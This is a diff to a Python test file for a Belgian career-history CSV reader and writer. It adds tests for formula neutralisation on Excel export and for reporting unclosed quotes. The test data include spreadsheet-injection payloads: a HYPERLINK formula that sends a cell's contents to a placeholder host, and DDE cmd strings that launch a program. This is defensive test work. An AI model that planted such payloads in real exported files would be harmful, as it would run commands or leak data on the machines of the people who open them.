@@ -1,4 +1,4 @@
-"""Career CSV: read, write, validation like case files, round trip (issue 6, point 2)."""
+"""Career CSV: read, write, validation like case files, round trip, spreadsheet safety."""
 from __future__ import annotations
 
 from datetime import date
@@ -25,6 +25,50 @@ CASE = {
         {"kind": "self_employed_main", "start": "2017-01-01", "end": "2018-06-30", "note": "café, Liège"},
     ],
 }
+
+
+#: Cells a spreadsheet would run as formulas (OWASP "CSV injection"), and line breaks.
+INJECTIONS = ['=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")', "+cmd|' /C calc'!A0",
+              "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab first", "\rCR first",
+              "'=already quoted", "''+twice", "it's fine", "=1+1\n=2+2"]
+
+
+def test_excel_export_neutralises_formulas_and_reads_back_identically(tmp_path):
+    lines = [{"kind": "work", "start": "2024-01-01", "end": "2024-01-31", "days": 20, "days_per_week": 5,
+              "employer": v, "note": v} for v in INJECTIONS]
+    f = tmp_path / "excel.csv"
+    write_career_csv(lines, f, excel=True)
+    raw = f.read_bytes().decode("utf-8-sig")
+    import csv
+    import io
+    rows = list(csv.reader(io.StringIO(raw, newline=""), delimiter=";"))
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert '"=1+1' not in raw and "'=1+1\n=2+2" in raw  # multi-line cell quoted, whole
+    back = read_career_csv(f).career()
+    assert [(l["employer"], l["note"]) for l in back] == [(v, v) for v in INJECTIONS]
+
+
+def test_unterminated_quote_is_reported_and_swallows_nothing(tmp_path):
+    f = tmp_path / "q.csv"
+    f.write_text("kind,start,end,note\n"
+                 'work,2024-01-01,2024-01-31,"opened and never closed\n'
+                 "work,2024-02-01,2024-02-30,\n"
+                 "work,2024-03-01,2024-03-31,ok\n")
+    with pytest.raises(InputError) as e:
+        read_career_csv(f)
+    msgs = [str(p) for p in e.value.problems]
+    assert any(m.startswith(f"{f}: line 2: note:") and "quote" in m for m in msgs), msgs
+    # The next row is read as a row: its own bad date is reported.
+    assert any(m.startswith(f"{f}: line 3: end:") for m in msgs), msgs
+    g = tmp_path / "q2.csv"
+    g.write_text("kind,start,end,note\n"
+                 'work,2024-01-01,2024-01-31,"opened here\n'
+                 'work,2024-02-01,2024-02-28,closed here"\n')
+    with pytest.raises(InputError) as e:
+        read_career_csv(g)
+    assert any(str(p).startswith(f"{g}: line 2: note:") for p in e.value.problems)
 
 
 def test_read_belgian_excel_export(tmp_path):
@@ -128,7 +172,10 @@ def _line(draw):
     elif measure == "days":
         d.update(days=round(draw(st.floats(0, span)), 4), days_per_week=5)
     if draw(st.booleans()):
-        d["employer"] = draw(st.sampled_from(["CPAS de Namur", "OCMW, Gent", 'Say "hi" sprl', "0200000191"]))
+        d["employer"] = draw(st.sampled_from(["CPAS de Namur", "OCMW, Gent", 'Say "hi" sprl', "0200000191",
+                                              *INJECTIONS]))
+    if draw(st.booleans()):
+        d["note"] = draw(st.sampled_from(INJECTIONS + ["plain note", "deux\nlignes", "a\r\nb"]))
     return d
 
 
